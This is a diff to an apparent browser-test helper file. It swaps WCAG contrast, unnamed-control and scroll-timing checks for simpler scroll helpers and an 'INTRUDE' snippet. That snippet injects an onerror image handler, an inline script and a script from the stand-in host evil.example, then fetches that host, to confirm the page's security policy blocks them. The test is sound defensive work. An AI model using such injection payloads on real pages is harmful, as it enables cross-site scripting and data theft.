@@ -37,35 +37,22 @@ SELECT = """(words) => {
   return false;
 }"""
 
-#: Contrast ratios (WCAG 2) of the labels in the palette.
-CONTRASTS = """() => {
-  const part = (value) => (value / 255 <= .03928 ? value / 255 / 12.92 : ((value / 255 + .055) / 1.055) ** 2.4);
-  const light = (colour) => {
-    const [r, g, b] = colour.match(/[0-9.]+/g).map(Number).map(part);
-    return .2126 * r + .7152 * g + .0722 * b;
-  };
-  return [...document.querySelectorAll('.palette button')].map((button) => {
-    const style = getComputedStyle(button);
-    const [x, y] = [light(style.color), light(style.backgroundColor)].sort((p, q) => q - p);
-    return (x + .05) / (y + .05);
-  });
+#: Scrolls down a little and waits until it is painted.
+SCROLL = """async () => {
+  document.querySelector('#text').scrollTop += 400;
+  await new Promise(requestAnimationFrame);
+  await new Promise(requestAnimationFrame);
 }"""
 
-#: How many controls a screen reader has no name for.
-NAMELESS = """() => [...document.querySelectorAll('button, a, select, input')]
-  .filter((one) => !(one.ariaLabel || one.textContent.trim() || one.labels?.length)).length"""
+PAINTED = "async () => { await new Promise(requestAnimationFrame); await new Promise(requestAnimationFrame); }"
 
-#: Scrolls through the text; the time of the ninth slowest of ten frames, in milliseconds.
-SCROLL = """async () => {
-  const pane = document.querySelector('#text');
-  const times = [];
-  let last = performance.now();
-  for (let i = 0; i < 60; i += 1) {
-    pane.scrollTop += 400;
-    await new Promise(requestAnimationFrame);
-    const now = performance.now();
-    times.push(now - last);
-    last = now;
-  }
-  return times.sort((a, b) => a - b)[54];
+#: What a foreign script would try; nothing of it may run.
+INTRUDE = """() => {
+  document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="window.broken = 1">');
+  const inline = document.createElement('script');
+  inline.textContent = 'window.broken = 2';
+  const foreign = document.createElement('script');
+  foreign.src = 'https://evil.example/x.js';
+  document.body.append(inline, foreign);
+  return fetch('https://evil.example/').then(() => 'sent', () => window.broken ?? 'stopped');
 }"""
